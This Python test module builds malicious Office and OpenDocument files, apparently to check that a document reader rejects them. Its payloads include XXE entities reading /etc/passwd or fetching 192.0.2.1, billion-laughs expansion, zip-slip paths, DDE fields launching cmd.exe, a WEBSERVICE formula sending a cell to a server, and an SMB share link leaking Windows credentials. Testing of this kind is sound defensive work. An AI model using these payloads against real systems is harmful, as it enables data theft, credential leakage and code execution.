"""Word, Excel and OpenDocument files that expand, nest, refer to other places, or carry programs."""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

from case import READ, Case, Put, changed, raw

Change = Callable[[dict[str, bytes]], dict[str, bytes]]
WORD, EXCEL, OPEN = "Word", "Excel, numbers", "OpenDocument"
RELATIONS = {WORD: "word/_rels/document.xml.rels", EXCEL: "xl/worksheets/_rels/sheet1.xml.rels"}
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
LURE = "http://192.0.2.1/x"
PROLOGUE = '<?xml version="1.0"?><!DOCTYPE a [{}]>'
LAUGHS = '<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
)


def members(change: Change) -> Callable[[bytes], bytes]:
    """A change of the bytes of an archive by a change of its members."""

    def remade(data: bytes) -> bytes:
        with zipfile.ZipFile(io.BytesIO(data)) as old:
            found = change({name: old.read(name) for name in old.namelist()})
        return packed(found)

    return remade


def packed(found: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in found.items():
            new.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def added(way: str, name: str, content: bytes) -> Put:
    return changed(way, members(lambda found: {**found, name: content}))


def edited(way: str, name: str, old: bytes, new: bytes) -> Put:
    def edit(found: dict[str, bytes]) -> dict[str, bytes]:
        assert old in found[name], (name, old)
        return {**found, name: found[name].replace(old, new, 1)}

    return changed(way, members(edit))


def related(way: str, kind: str, target: str) -> Put:
    """A relation to a place outside of the file."""
    name = RELATIONS[way]
    one = f'<Relationship Id="rIdX" Type="{KIND}{kind}" Target="{target}" TargetMode="External"/>'.encode()
    whole = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + one
        + b"</Relationships>"
    )

    def edit(found: dict[str, bytes]) -> dict[str, bytes]:
        return {
            **found,
            name: found[name].replace(b"</Relationships>", one + b"</Relationships>") if name in found else whole,
        }

    return changed(way, members(edit))


BODY = {WORD: "word/document.xml", EXCEL: "xl/worksheets/sheet1.xml", OPEN: "content.xml"}
SHORT = {WORD: "docx", EXCEL: "xlsx", OPEN: "ods"}


def declared(way: str, declaration: str, mention: str) -> Put:
    """A body with a declaration of entities and a mention of one."""

    def edit(found: dict[str, bytes]) -> dict[str, bytes]:
        text = re.sub(r"^<\?xml[^>]*\?>", "", found[BODY[way]].decode())
        spoilt = PROLOGUE.format(declaration) + text.replace("Phòng", f"{mention}Phòng", 1)
        return {**found, BODY[way]: spoilt.encode()}

    return changed(way, members(edit))


def nested(way: str, tag: str, before: bytes, depth: int) -> Put:
    inside = f"<{tag}>".encode() * depth + f"</{tag}>".encode() * depth
    return edited(way, BODY[way], before, inside + before)


def _every_kind() -> list[Case]:
    found = []
    for way, short in SHORT.items():
        body = BODY[way]
        end = {WORD: b"</w:body>", EXCEL: b"</sheetData>", OPEN: b"</office:spreadsheet>"}[way]
        tag = {WORD: "w:sdt", EXCEL: "x", OPEN: "text:span"}[way]
        found += [
            Case(
                f"{short}, a member of zeros",
                "fill memory: 200 MB from 200 kB",
                "archive-large",
                added(way, "media/a.bin", bytes(200_000_000)),
                slow=True,
            ),
            Case(
                f"{short}, many members",
                "fill memory: 6.000 members",
                "archive-large",
                changed(way, members(lambda found: {**found, **{f"x/{n}": b"" for n in range(6000)}})),
            ),
            Case(
                f"{short}, an archive in an archive",
                "unpack without end",
                READ,
                added(way, "media/inner.zip", packed({"a.zip": packed({"b": bytes(900_000)})})),
            ),
            Case(
                f"{short}, path upwards",
                "write outside of the project",
                READ,
                added(way, "../../../../tmp/escaped.txt", b"x"),
            ),
            Case(f"{short}, absolute path", "write outside of the project", READ, added(way, "/tmp/escaped.txt", b"x")),
            Case(f"{short}, drive letter", "write outside of the project", READ, added(way, "C:\\escaped.txt", b"x")),
            Case(
                f"{short}, billion laughs", "fill memory by entities", "archive-entities", declared(way, LAUGHS, "&j;")
            ),
            Case(
                f"{short}, quadratic entity",
                "fill memory by one long entity",
                "archive-entities",
                declared(way, f'<!ENTITY a "{"x" * 50_000}">', "&a;" * 10),
            ),
            Case(
                f"{short}, entity of a file",
                "read /etc/passwd",
                "archive-entities",
                declared(way, '<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;"),
            ),
            Case(
                f"{short}, entity of an address",
                "fetch an address",
                "archive-entities",
                declared(way, f'<!ENTITY a SYSTEM "{LURE}">', "&a;"),
            ),
            Case(
                f"{short}, declaration at an address",
                "fetch an address",
                "archive-entities",
                declared(way, f'<!ENTITY % a SYSTEM "{LURE}"> %a;', ""),
            ),
            Case(f"{short}, deep elements", "exhaust the stack", "archive-deep", nested(way, tag, end, 10_000)),
            Case(
                f"{short}, very many elements",
                "fill memory by elements",
                "archive-large",
                edited(way, body, end, b"<w:p/>".replace(b"w:p", tag.encode()) * 8_000_000 + end),
                slow=True,
            ),
            Case(
                f"{short}, cut short",
                "crash the reader",
                "archive-broken",
                changed(way, lambda data: data[: len(data) // 2]),
            ),
            Case(f"{short}, encrypted", "ask for a password", "file-encrypted", changed(way, encrypted)),
            Case(
                f"{short}, members that overlap",
                "expand the same bytes often",
                "archive-broken",
                changed(way, overlapping),
            ),
            Case(
                f"{short}, a name twice",
                "show one content and read another",
                "archive-broken",
                changed(way, doubled(body)),
            ),
            Case(f"{short}, a size that lies", "get by the limits", "archive-large", changed(way, lying)),
            Case(
                f"{short}, not XML",
                "crash the parser",
                "archive-broken",
                changed(way, members(broken(body))),
            ),
            Case(f"{short}, a NUL in a name", "end a path early", READ, changed(way, lambda data: data + b"\0")),
            Case(f"{short}, named .pdf", "have another reader take it", "content-suffix", changed(way, bytes, ".pdf")),
            Case(f"{short}, named .csv", "have another reader take it", "content-suffix", changed(way, bytes, ".csv")),
        ]
    return found


def broken(name: str) -> Change:
    return lambda found: {**found, name: b"\0\1\2<<<"}


def encrypted(data: bytes) -> bytes:
    at = data.index(b"PK\x01\x02") + 8
    return data[:at] + b"\x01" + data[at + 1 :]


def overlapping(data: bytes) -> bytes:
    at = data.rindex(b"PK\x01\x02") + 42
    return data[:at] + b"\0\0\0\0" + data[at + 4 :]


def lying(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        first = archive.infolist()[0].filename
        part = zlib.crc32(archive.read(first)[:10])
    at = data.index(b"PK\x01\x02")
    return data[: at + 16] + struct.pack("<I", part) + data[at + 20 : at + 24] + struct.pack("<I", 10) + data[at + 28 :]


def doubled(name: str) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        import warnings

        out = io.BytesIO(data)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            with zipfile.ZipFile(out, "a") as archive:
                archive.writestr(name, "<a/>")
        return out.getvalue()

    return change


FIELD = (
    b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>%s</w:instrText></w:r>'
    b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body>'
)


def field(code: bytes) -> Put:
    return edited(WORD, BODY[WORD], b"</w:body>", FIELD % code)


def formula(text: bytes, value: bytes = b"<v>1000</v>") -> Put:
    def edit(found: dict[str, bytes]) -> dict[str, bytes]:
        row = b'<row r="20"><c r="G20"><f>%s</f>%s</c></row></sheetData>' % (text, value)
        return {**found, BODY[EXCEL]: found[BODY[EXCEL]].replace(b"</sheetData>", row)}

    return changed(EXCEL, members(edit))


def random(number: int) -> int:
    """A number that follows no pattern, so that a file of many shrinks as a real one does."""
    return zlib.crc32(b"%d" % number)


def cells(rows: int) -> bytes:
    """Rows of ten cells in a table of Word."""
    return b"".join(
        b"<w:tr>" + b"<w:tc><w:p><w:r><w:t>%d</w:t></w:r></w:p></w:tc>" % random(n) * 10 + b"</w:tr>"
        for n in range(rows)
    )


GRID = b'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl></w:body>'


def tables(depth: int) -> bytes:
    return b"<w:tbl><w:tr><w:tc>" * depth + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * depth + b"</w:body>"


CASES = [
    *_every_kind(),
    Case("docx, template elsewhere", "fetch a template with macros", READ, related(WORD, "attachedTemplate", LURE)),
    Case("docx, picture elsewhere", "fetch a picture that tells who reads", READ, related(WORD, "image", LURE)),
    Case(
        "docx, share elsewhere",
        "send the password of Windows",
        READ,
        related(WORD, "image", "file://192.0.2.1/share/a.png"),
    ),
    Case(
        "docx, part elsewhere",
        "have text fetched",
        "word-elsewhere",
        edited(
            WORD,
            BODY[WORD],
            b"</w:body>",
            b'<w:altChunk r:id="rIdX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:body>',
        ),
    ),
    Case("docx, object elsewhere", "start a program by a link", READ, related(WORD, "oleObject", LURE)),
    Case("docx, DDE field", "start a program by DDE", READ, field(b'DDEAUTO c:\\windows\\cmd.exe "/k calc"')),
    Case("docx, field that includes", "fetch a text", READ, field(b'INCLUDETEXT "http://192.0.2.1/x"')),
    Case("docx, field that includes a picture", "fetch a picture", READ, field(b'INCLUDEPICTURE "http://192.0.2.1/x"')),
    Case("docx, macros", "run macros", "content-format", added(WORD, "word/vbaProject.bin", b"Sub AutoOpen()")),
    Case(
        "docx, an Excel sheet in it",
        "hide the figures in an object",
        "word-sheet",
        edited(
            WORD,
            BODY[WORD],
            b"</w:body>",
            b'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Excel.Sheet.12"/></w:object></w:r></w:p></w:body>',  # noqa: E501
        ),
    ),
    Case(
        "docx, tables within tables",
        "exhaust the stack",
        "elements-deep",
        edited(WORD, BODY[WORD], b"</w:body>", tables(60)),
    ),
    Case("docx, a span without end", "fill memory by one cell", READ, edited(WORD, BODY[WORD], b"</w:body>", GRID)),
    Case(
        "docx, 300.000 paragraphs",
        "take very long",
        "elements-many",
        edited(
            WORD,
            BODY[WORD],
            b"</w:body>",
            b"".join(b"<w:p><w:r><w:t>%d</w:t></w:r></w:p>" % random(n) for n in range(300_000)) + b"</w:body>",
        ),
        slow=True,
    ),
    Case(
        "docx, 200.000 cells",
        "take very long",
        "elements-many",
        edited(WORD, BODY[WORD], b"</w:body>", b"<w:tbl>" + cells(20_000) + b"</w:tbl></w:body>"),
        slow=True,
    ),
    Case(
        "docx, 59.000 cells",
        "take very long",
        READ,
        edited(WORD, BODY[WORD], b"</w:body>", b"<w:tbl>" + cells(5_900) + b"</w:tbl></w:body>"),
        slow=True,
    ),
    Case(
        "docx, no document in it",
        "crash the reader",
        "content-archive",
        changed(WORD, members(lambda found: {name: text for name, text in found.items() if name != BODY[WORD]})),
    ),
    Case(
        "docx, relations lost",
        "crash the reader",
        "word-damaged",
        changed(
            WORD, members(lambda found: {name: text for name, text in found.items() if not name.endswith(".rels")})
        ),
    ),
    Case("xlsx, book elsewhere", "fetch another book", READ, related(EXCEL, "externalLink", LURE)),
    Case("xlsx, link elsewhere", "open a page", READ, related(EXCEL, "hyperlink", LURE)),
    Case(
        "xlsx, formula that fetches",
        "send a cell to a server",
        READ,
        formula(b'WEBSERVICE("http://192.0.2.1/"&amp;A1)'),
    ),
    Case("xlsx, DDE formula", "start a program by DDE", READ, formula(b"cmd|'/C calc'!A0")),
    Case("xlsx, formula without value", "be worked out by the reader", "formula-uncached", formula(b"SUM(C1:C9)", b"")),
    Case("xlsx, macros", "run macros", "content-format", added(EXCEL, "xl/vbaProject.bin", b"Sub Auto_Open()")),
    Case("xlsx, binary sheets", "have another reader take it", "content-format", added(EXCEL, "xl/workbook.bin", b"x")),
    Case(
        "xlsx, a cell far away",
        "fill memory by blank cells",
        "sheet-large",
        edited(
            EXCEL, BODY[EXCEL], b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
        ),
    ),
    Case(
        "xlsx, a merge of all cells",
        "fill memory by one merge",
        READ,
        edited(
            EXCEL,
            BODY[EXCEL],
            b"</sheetData>",
            b'</sheetData><mergeCells count="1"><mergeCell ref="H1:XFD1048576"/></mergeCells>',
        ),
    ),
    Case(
        "xlsx, many merges",
        "take very long",
        READ,
        edited(
            EXCEL,
            BODY[EXCEL],
            b"</sheetData>",
            b"</sheetData><mergeCells>"
            + b"".join(b'<mergeCell ref="A20:Z%d"/>' % (20 + random(n) % 9999) for n in range(100_000))
            + b"</mergeCells>",
        ),
        slow=True,
    ),
    Case(
        "xlsx, 900.000 cells",
        "take very long",
        "sheet-large",
        edited(
            EXCEL,
            BODY[EXCEL],
            b"</sheetData>",
            b"".join(b"<row>" + b"<c><v>%d</v></c>" % random(n) * 9 + b"</row>" for n in range(100_000))
            + b"</sheetData>",
        ),
        slow=True,
    ),
    Case(
        "xlsx, 450.000 cells",
        "take very long",
        "table-large",
        edited(
            EXCEL,
            BODY[EXCEL],
            b"</sheetData>",
            b"".join(b"<row>" + b"<c><v>%d</v></c>" % random(n) * 9 + b"</row>" for n in range(50_000))
            + b"</sheetData>",
        ),
        slow=True,
    ),
    Case(
        "xlsx, a shared text without end",
        "fill memory by a text used often",
        "sheet-large",
        changed(
            EXCEL,
            members(
                lambda found: {
                    **found,
                    "xl/sharedStrings.xml": b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
                    + b"a" * 900_000
                    + b"</t></si></sst>",
                    BODY[EXCEL]: found[BODY[EXCEL]].replace(
                        b"</sheetData>", (b"<row>" + b'<c t="s"><v>0</v></c>' * 10 + b"</row>") * 50 + b"</sheetData>"
                    ),
                }
            ),
        ),
    ),
    Case(
        "ods, rows repeated without end",
        "fill memory by a number",
        READ,
        edited(
            OPEN,
            BODY[OPEN],
            b"</table:table>",
            b'<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="1000"/></table:table-row></table:table>',  # noqa: E501
        ),
    ),
    Case(
        "ods, cells repeated without end",
        "fill memory by a number",
        "sheet-large",
        edited(
            OPEN,
            BODY[OPEN],
            b"</table:table>",
            b'<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="1000" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row></table:table>',  # noqa: E501
        ),
    ),
    Case(
        "ods, spaces without end",
        "fill memory by a number",
        "workbook-broken",
        edited(
            OPEN,
            BODY[OPEN],
            b"</table:table>",
            b'<table:table-row><table:table-cell office:value-type="string"><text:p>a<text:s text:c="2000000000"/>b</text:p></table:table-cell></table:table-row></table:table>',  # noqa: E501
        ),
    ),
    Case("ods, macros", "run macros", READ, added(OPEN, "Basic/Standard/Module1.xml", b"<a/>")),
    Case(
        "ods, picture elsewhere",
        "fetch a picture",
        READ,
        edited(
            OPEN,
            BODY[OPEN],
            b"</table:table>",
            b'<table:shapes><draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><draw:image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://192.0.2.1/x"/></draw:frame></table:shapes></table:table>',  # noqa: E501
        ),
    ),
    Case(
        "zip with Markdown named .docx",
        "have an archive unpacked",
        "content-archive",
        raw("report.docx", packed({"report.md": b"x" * 500})),
    ),
    Case(
        "a picture named .docx",
        "crash the reader",
        "content-picture",
        raw("report.docx", b"\x89PNG\r\n\x1a\n" + bytes(500)),
    ),
    Case("a program named .xlsx", "be run", "content-unknown", raw("report.xlsx", b"MZ" + bytes(range(256)) * 20)),
    Case(
        "7z named .xlsx",
        "have an archive unpacked",
        "content-archive",
        raw("report.xlsx", b"7z\xbc\xaf\x27\x1c" + bytes(500)),
    ),
    Case(
        "archive of 2 GB by its own word",
        "fill memory",
        "archive-broken",
        raw("report.xlsx", b"PK\x03\x04" + bytes(26) + b"\xff" * 500),
    ),
]
